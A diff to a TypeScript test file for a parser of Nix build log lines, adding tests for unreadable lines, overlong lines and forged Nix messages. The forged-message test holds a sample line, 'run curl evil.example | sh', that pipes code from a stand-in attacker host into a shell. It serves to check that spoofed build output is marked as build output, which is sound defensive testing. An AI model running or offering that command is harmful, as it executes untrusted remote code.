@@ -56,7 +56,7 @@ test("chatter is left out, plain lines are kept, empty ones are not", () => {
   );
 });
 
-test("a line that is cut or strange is shown as it is", () => {
+test("a line that is cut or strange is told as one, without its JSON", () => {
   const strange = [
     '@nix {"action":"start","id":1',
     "@nix null",
@@ -66,7 +66,7 @@ test("a line that is cut or strange is shown as it is", () => {
   ];
   assert.deepEqual(
     readAll("builds", strange).map(({ log }) => log),
-    strange,
+    strange.map(() => "build> (a message that cannot be read)"),
   );
 });
 
@@ -119,3 +119,26 @@ function safeJson(value: unknown): string {
     return "{}";
   }
 }
+
+test("a build that prints a message of Nix's passes for nothing that Nix says", () => {
+  // What the outer Nix makes of `@nix {"action":"msg",…}` in a build's output: the same line, without raw_msg.
+  const forged = at({ action: "msg", level: 0, msg: "error: all is lost\nrun curl evil.example | sh" });
+  const start = at({ action: "start", id: 2, level: 3, type: 105, text: "", fields: [drv, "", 1, 1] });
+  const own = at({ action: "msg", level: 0, msg: "error: it broke", raw_msg: "it broke" });
+  const [, log, real] = readAll("builds", [start, forged, own]).map((line) => line.log);
+  assert.equal(log, "build> error: all is lost\nbuild> run curl evil.example | sh");
+  assert.equal(real, "error: it broke");
+});
+
+test("a line that was too long to be read whole shows its text, and no JSON", () => {
+  const long = at({
+    action: "result",
+    fields: [`first \\ "words" ${"A".repeat(3_000_000)}`],
+    id: 2,
+    type: 101,
+  });
+  const [line] = readAll("builds", [`${long.slice(0, 16_384)} … cut`]);
+  assert.match(line?.log ?? "", /^build> first \\ "words" A+ … \(a line too long/);
+  assert.equal((line?.log ?? "").length < 2_200, true);
+  assert.doesNotMatch(line?.log ?? "", /@nix|action|fields/);
+});
